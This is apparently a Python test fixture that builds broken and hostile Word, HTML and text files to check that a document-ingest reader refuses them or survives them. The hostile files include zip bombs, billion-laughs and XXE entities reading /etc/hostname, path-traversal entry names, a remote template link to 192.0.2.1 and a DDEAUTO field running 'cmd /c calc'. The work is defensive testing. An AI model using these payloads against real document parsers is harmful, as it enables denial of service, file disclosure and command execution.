"""Files that are broken or meant to do harm, made here; none of them comes from outside. `FILES` names each with what is to become of it."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable

from openpyxl import Workbook

from tests.ingest.word_makers import MAIN, WORD, definition, level, list_of, numbered, paragraph, word_file

RESOLUTION = [
    "第 9302(2033)号决议",
    "安全理事会2033年3月8日第9951次会议通过",
    "安全理事会，",
    "深为关切松河两岸的洪水，",
    "1. 促请所有国家公布水位数据；",
    "2. 决定继续处理此案。",
]
BODY = "".join(map(paragraph, RESOLUTION))
TEXT = "\n\n".join(RESOLUTION)
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def packed(parts: dict[str, bytes | str]) -> bytes:
    """A ZIP archive of parts."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return archive.getvalue()


def with_document(xml: bytes | str) -> bytes:
    """A Word file whose document part is exactly this."""
    with zipfile.ZipFile(io.BytesIO(word_file(BODY))) as file:
        parts: dict[str, bytes | str] = {name: file.read(name) for name in file.namelist()}
    return packed({**parts, "word/document.xml": xml})


def document(inside: str, *, before: str = "") -> str:
    """The XML of a document part, with a document type before it."""
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{inside}</w:body></w:document>'


def spreadsheet() -> bytes:
    book, saved = Workbook(), io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def lying_about_its_size() -> bytes:
    """A part that says that it has ten bytes and has twenty million."""
    content = with_document(document("<w:p>" + " " * 20_000_000 + "</w:p>"))
    at = content.index(b"word/document.xml", content.index(b"PK\x01\x02")) - 46
    while content[at : at + 4] != b"PK\x01\x02":
        at = content.index(b"word/document.xml", at + 63) - 46
    return content[: at + 24] + struct.pack("<I", 10) + content[at + 28 :]


def encrypted_entries() -> bytes:
    """The flag that says that a part is encrypted, set in every entry of the directory."""
    content = word_file(BODY)
    pieces = content.split(b"PK\x01\x02")
    return b"PK\x01\x02".join([pieces[0], *(piece[:4] + b"\x01\x00" + piece[6:] for piece in pieces[1:])])


def ole(*names: str) -> bytes:
    """An OLE container, as far as anybody looks: its signature and the names in its directory."""
    return OLE + b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in names)


def laughs() -> str:
    """Ten entities, each ten times the one before."""
    lines = ['<!ENTITY a0 "安">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def in_circles() -> bytes:
    """Styles based on each other, and lists that refer to a style that refers to them."""
    style = '<w:style w:type="paragraph" w:styleId="{0}"><w:basedOn w:val="{1}"/></w:style>'
    listed = '<w:style w:type="numbering" w:styleId="S"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    body = paragraph("甲", properties='<w:pStyle w:val="A"/>') + numbered("乙", list=1) + BODY
    styles = style.format("A", "B") + style.format("B", "A") + listed
    return word_file(body, parts={"styles": styles, "numbering": definition(0, [], '<w:numStyleLink w:val="S"/>') + list_of(1, 0)})


def huge_numbers() -> bytes:
    lists = definition(0, [level(0, "lowerLetter", "(%1)", start=999999999)]) + list_of(1, 0)
    return word_file(BODY + numbered("甲", list=1) * 20000, parts={"numbering": lists})


def page(inside: str) -> bytes:
    return f"<!doctype html><html><head><meta charset=utf-8></head><body>{inside}</body></html>".encode()


TABLE = "".join("<w:tr>" + "".join(f"<w:tc>{paragraph('甲')}</w:tc>" for _ in range(50)) + "</w:tr>" for _ in range(1500))
NESTED_TABLES = "<w:tbl><w:tr><w:tc>" * 80 + paragraph("甲") + "</w:tc></w:tr></w:tbl>" * 80
OUTSIDE = (
    '<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/>'
    '<Relationship Id="b" Type="http://x/image" Target="file:///etc/hostname" TargetMode="External"/>'
    '<Relationship Id="c" Type="http://x/footnotes" Target="../../../../etc/passwd"/>'
    '<Relationship Id="d" Type="http://x/numbering" Target="http://192.0.2.1/n.xml"/>'
)
LIST = "<ol><li>"
PICTURE = "<w:p><w:r><w:drawing><wps:pic/></w:drawing></w:r></w:p>"
BITMAPS = {f"word/media/{number}.bmp": b"\x00" * 20_000_000 for number in range(9)}

BOMB = packed({f"{number}.xml": b" " * 9_000_000 for number in range(9)})
OLE_OBJECT = {"word/embeddings/oleObject1.bin": OLE, "word/embeddings/run.exe": b"MZ" * 500, "word/embeddings/Word.docx": word_file(BODY)}
UPWARDS = {"../../../../tmp/hostile": b"x", "/etc/hostile": b"x", "..\\..\\hostile": b"x", "word/../../hostile": b"x", "C:/hostile": b"x"}
FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r>'


def many_names() -> str:
    """A root that declares thirty thousand namespaces, and elements that use them."""
    names = " ".join(f'xmlns:n{number}="urn:{number}"' for number in range(30_000))
    inside = "".join(f"<n{number}:p/>" for number in range(0, 30_000, 7))
    return f'<?xml version="1.0"?><w:document xmlns:w="{WORD}" {names}><w:body>{inside}{BODY}</w:body></w:document>'


def renamed_names(depth: int = 200) -> str:
    """The prefix of Word's own namespace means another one, and again another one, further in."""
    opened = "".join(f'<w:x xmlns:w="urn:{number}">' for number in range(depth))
    return document(f"{opened}{'</w:x>' * depth}{BODY}")


def many_attributes() -> str:
    attributes = " ".join(f'a{number}="1"' for number in range(100_000))
    return document(f"<w:p {attributes}/>{BODY}")


def saved_pages_inside(depth: int = 2000) -> bytes:
    """A saved page in a saved page in a saved page."""
    content = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b0\r\n\r\n"
    for number in range(depth):
        content += b"--b%d\r\nContent-Type: multipart/related; boundary=b%d\r\n\r\n" % (number, number + 1)
    return content


def twice_the_document() -> bytes:
    """Two parts of one name: a reader that checks the one and opens the other is deceived."""
    archive = io.BytesIO(word_file("".join(map(paragraph, RESOLUTION))))
    with warnings.catch_warnings(), zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as file:
        warnings.simplefilter("ignore")
        file.writestr("word/document.xml", document("<w:p/>", before=laughs()))
    return archive.getvalue()


# For each file: how it is made, and words of the sentence that refuses it; None where it is read.
FILES: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "zip bomb.docx": (lambda: with_document(document("<w:p>" + " " * 60_000_000 + "</w:p>")), "unpacked, the file would pass"),
    "zip bomb of pictures.docx": (
        lambda: word_file(BODY, more=BITMAPS),
        "unpacked, the file",
    ),
    "six thousand parts.docx": (lambda: word_file(BODY, more={f"word/media/{n}": b"" for n in range(6000)}), "unpacked, the file would pass"),
    "lying about its size.docx": (lying_about_its_size, "damaged or cut off"),
    "zip in a zip.docx": (lambda: packed({"a.zip": packed({"b.zip": word_file(BODY)})}), "this is a ZIP archive"),
    "truncated.docx": (lambda: word_file(BODY)[:700], "damaged or cut off"),
    "cut in the middle.docx": (lambda: word_file(BODY)[:400] + word_file(BODY)[500:], "damaged"),
    "entity from outside.docx": (
        lambda: with_document(document("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>')),
        "declares a document type",
    ),
    "billion laughs.docx": (
        lambda: with_document(document("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", before=laughs())),
        "declares a document type",
    ),
    "billion laughs in UTF-16.docx": (
        lambda: with_document(document("<w:p/>", before=laughs()).replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")),
        "declares a document type",
    ),
    "XML in UTF-7.docx": (lambda: with_document(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-w:document/+AD4-'), "damaged"),
    "macros.docm": (lambda: word_file(BODY, main_type=MACROS), "holds macros"),
    "hidden macros.docx": (lambda: word_file(BODY, more={"word/vbaProject.bin": OLE}), "holds macros"),
    "protected by a password.docx": (lambda: ole("EncryptionInfo", "EncryptedPackage"), "protected by a password"),
    "encrypted entries.docx": (encrypted_entries, "protected by a password"),
    "old Word.doc": (lambda: ole("WordDocument", "1Table"), "old Word file (.doc), and no program"),
    "old Word with macros.doc": (lambda: ole("WordDocument", "_VBA_PROJECT"), "holds macros"),
    "old Excel.xls": (lambda: ole("Workbook"), "this is a spreadsheet"),
    "rich text.docx": (lambda: b"{\\rtf1\\ansi " + b"{\\b " * 50_000, "an RTF file, and no program"),
    "spreadsheet.docx": (spreadsheet, "this is a spreadsheet"),
    "slides.docx": (lambda: word_file(BODY, main_type=SLIDES), "this is a presentation"),
    "archive.docx": (lambda: packed({"a.txt": TEXT}), "this is a ZIP archive"),
    "OpenDocument.docx": (lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), "OpenDocument"),
    "empty archive.docx": (lambda: packed({}), "this is a ZIP archive"),
    "no document inside.docx": (lambda: word_file(BODY).replace(b"word/document.xml", b"word/dokument.xml"), "no document inside"),
    "another root.docx": (lambda: with_document("<html/>"), "is damaged"),
    "no XML.docx": (lambda: with_document(b"\x00\x01\x02"), "is damaged"),
    "NULs in XML.docx": (lambda: with_document(document(paragraph("甲\x00乙"))), "is damaged"),
    "200,000 deep.docx": (lambda: with_document(document("<a>" * 200_000 + "</a>" * 200_000)), "is damaged"),
    "tables in tables.docx": (lambda: word_file(BODY + NESTED_TABLES), None),
    "three million tags.docx": (
        lambda: with_document(document("".join(f"{n:x}{'<w:p/>' * 30}" for n in range(70_000)))),
        "more pieces than any document",
    ),
    "huge table.docx": (lambda: word_file(f"{BODY}<w:tbl>{TABLE}</w:tbl>"), None),
    "four million characters.docx": (lambda: word_file("".join(paragraph(f"{n:x}" + "安全理事会" * 40) for n in range(20_000))), "MB of text"),
    "huge numbers.docx": (huge_numbers, None),
    "styles in circles.docx": (in_circles, None),
    "links to the outside.docx": (lambda: word_file(BODY, links=OUTSIDE), None),
    "empty.docx": (lambda: word_file(paragraph("") * 3), "holds no text"),
    "pictures only.docx": (
        lambda: word_file(PICTURE, more={"word/media/1.png": b"\x89PNG"}),
        "no text",
    ),
    "no bytes.docx": (lambda: b"", "the file is empty"),
    "text.docx": (TEXT.encode, None),
    "Word file.txt": (lambda: word_file(BODY), None),
    "sign-in page.docx": (lambda: page("<form><input name=u><input type=password></form>"), "asks to sign in"),
    "200,000 deep.html": (lambda: page("<div>" * 200_000 + TEXT), None),
    "lists in lists.html": (lambda: page(TEXT + LIST * 50_000), None),
    "huge table.html": (lambda: page(f"{TEXT}<table>{('<tr>' + '<td>甲' * 40) * 6000}</table>"), None),
    "a million tags.html": (lambda: page("<p>甲" * 1_000_000), "more pieces than any document"),
    "never closed.html": (lambda: page(f"<p>{TEXT}</p><!-- <script> <style> <table" + "<" * 100_000), None),
    "page of entities.html": (lambda: b"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><p>&x;</p>", "holds no text"),
    "NULs.txt": (lambda: b"\x00" * 1_000_000, "the file is empty"),
    "NULs between.html": (lambda: page(TEXT).replace("国".encode(), "国\x00".encode()), None),
    "lone surrogates.txt": (lambda: TEXT.encode("utf-8").replace("洪".encode(), b"\xed\xa0\x80"), "this is no text"),
    "lone surrogates in UTF-16.txt": (lambda: b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00\xd8" * 200, "this is no text"),
    "packed otherwise.docx": (lambda: b"\x1f\x8b\x08\x00" + bytes(range(256)) * 40, "this is no text"),
    "picture.docx": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "this is a picture"),
    "feed.xml": (lambda: b'<?xml version="1.0"?><rss><channel/></rss>', "this is an XML file"),
    "too large.docx": (lambda: word_file(BODY) + b"\x00" * 27_000_000, "at most 25 MB are read"),
    "too large.txt": (lambda: TEXT.encode() * 60_000, "at most 10 MB are read"),
    "main part unnamed.docx": (lambda: word_file(BODY, main_type=""), None),
    "strict.docx": (lambda: with_document(document(BODY).replace(WORD, "http://purl.oclc.org/ooxml/wordprocessingml/main")), None),
    "zip bomb inside.docx": (lambda: word_file(BODY, more={"word/embeddings/bomb.zip": BOMB}), None),
    "files inside.docx": (lambda: word_file(BODY, more=OLE_OBJECT), None),
    "names that lead upwards.docx": (lambda: word_file(BODY, more=UPWARDS), None),
    "two documents of one name.docx": (twice_the_document, "declares a document type"),
    "thirty thousand namespaces.docx": (lambda: with_document(many_names()), None),
    "a prefix that means another name.docx": (lambda: with_document(renamed_names()), None),
    "a hundred thousand attributes.docx": (lambda: with_document(many_attributes()), None),
    "fields that run a program.docx": (lambda: word_file(FIELD.join(["<w:p>", "</w:p>"]) + f"<w:p>{FIELD * 5000}</w:p>" + BODY), None),
    "half a million pieces.docx": (lambda: word_file(BODY + paragraph(*(f"<w:r><w:t>{n:x}</w:t></w:r>" for n in range(170_000)))), None),
    "saved pages in saved pages.mhtml": (saved_pages_inside, "more pieces than any document"),
    "PDF and Word.pdf": (lambda: b"%PDF-1.7\n" + word_file(BODY), "damaged or cut off"),
    "picture and page.gif": (lambda: b"GIF89a" + page(TEXT), "this is a picture"),
    "page and archive.html": (lambda: page(TEXT) + packed({"a.txt": TEXT}), "this is no text"),
    "rich text with a program.rtf": (lambda: b"{\\rtf1{\\object\\objdata " + b"4d5a" * 100_000 + b"}}", "an RTF file, and no program"),
    "one long line.txt": ((TEXT + "甲" * 3_000_000).encode, None),
    "escapes.txt": ((TEXT + "\x1b[2J\x1b]0;x\x07" * 1000).encode, "this is no text"),
    "type in capitals.docx": (lambda: word_file(BODY, main_type=MAIN.upper()), "this is a ZIP archive"),
}
